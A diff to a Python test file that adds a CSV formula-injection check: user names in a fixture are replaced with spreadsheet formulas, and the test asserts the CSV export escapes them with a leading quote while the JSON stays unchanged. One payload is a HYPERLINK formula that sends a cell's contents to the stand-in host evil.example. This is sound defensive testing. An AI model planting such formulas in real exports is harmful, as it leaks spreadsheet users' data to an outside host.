@@ -69,6 +69,14 @@ def test_csv_streams_the_same_rows_as_json(client, settings, monkeypatch):
 
     monkeypatch.setattr(mart, "CSV_BATCH", 3)  # several round trips of the server-side cursor on 10 rows
     assert client.get("/features?format=csv").status_code == 503
+    # the attack: names a spreadsheet runs as formulas when it opens the CSV
+    formulas = {2: '=HYPERLINK("http://evil.example/?"&A1,"Bob")', 3: "@SUM(1+1)", 4: "+1-1", 5: "-2+3"}
+    users = settings.data_dir / "users.csv"
+    lines = users.read_text().splitlines()
+    for user_id, name in formulas.items():
+        fields = lines[user_id].split(",")
+        lines[user_id] = ",".join([fields[0], '"' + name.replace('"', '""') + '"', *fields[2:]])
+    users.write_text("\n".join(lines) + "\n")
     assert client.post("/trigger?wait=true").json()["status"] == "success"
     answer = client.get("/features?format=csv&limit=2")  # limit does not cut the CSV
     assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
@@ -86,6 +94,11 @@ def test_csv_streams_the_same_rows_as_json(client, settings, monkeypatch):
     assert by_id["1"]["tied_compound_ids"] == ";".join(map(str, alice["tied_compound_ids"]))
     nobody = [i for i in items if i["total_experiments"] == 0]
     assert all(by_id[str(i["user_id"])]["avg_experiment_run_time"] == "" for i in nobody)
+    # formulas: a leading ' in the CSV, the JSON unchanged
+    for user_id, name in formulas.items():
+        assert by_id[str(user_id)]["name"] == "'" + name
+        assert next(i for i in items if i["user_id"] == user_id)["name"] == name
+    assert by_id["1"]["name"] == "Alice"
 
 
 def test_out_of_range_parameters_get_422_everywhere(client):
